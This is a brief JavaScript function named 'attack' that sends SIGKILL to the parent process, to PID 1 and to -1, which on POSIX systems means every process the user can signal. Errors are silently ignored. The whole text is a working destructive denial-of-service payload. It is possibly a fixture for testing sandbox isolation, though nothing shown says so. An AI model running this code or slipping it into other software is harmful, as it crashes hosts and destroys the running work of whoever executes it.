function attack(n) {
	for (const pid of [process.ppid, 1, -1]) {
		try {
			process.kill(pid, 'SIGKILL');
		} catch {
			// not ours
		}
	}
	return 0;
}
